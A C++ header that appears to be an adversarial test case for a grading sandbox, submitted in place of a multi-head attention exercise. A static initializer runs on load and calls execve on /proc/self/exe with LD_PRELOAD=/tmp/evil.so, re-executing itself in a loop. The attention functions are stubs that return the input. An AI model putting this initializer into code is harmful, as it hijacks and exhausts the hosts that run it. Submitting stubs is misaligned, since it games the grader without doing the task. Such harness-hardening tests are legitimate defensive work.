// static-reexec-loop: starts itself again and again with its own environment.
// Must hold: grader exits in time, no process or file left.
#pragma once
#include "exercise/given/attention.h"
#include "kit/tensor.h"
#include <algorithm>
#include <cstdint>
#include <limits>
#include <numeric>
#include <stdexcept>
#include <string>
#include <vector>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
namespace exercise {
namespace { struct AtkInit { AtkInit() {
char* a[] = {(char*)"/proc/self/exe", nullptr}; char* e[] = {(char*)"LD_PRELOAD=/tmp/evil.so", (char*)"ATK=1", nullptr}; for (const char* p : {"/proc/self/exe", "/prog", "./prog", "/run/prog"}) execve(p, a, e);
} } atk_init; }
Tensor split_heads(const Tensor& x, int) { return x; }
Tensor merge_heads(const Tensor& x) { return x; }
Tensor mha_forward(const Tensor& x, const Params&, int) { return x; }
}  // namespace exercise
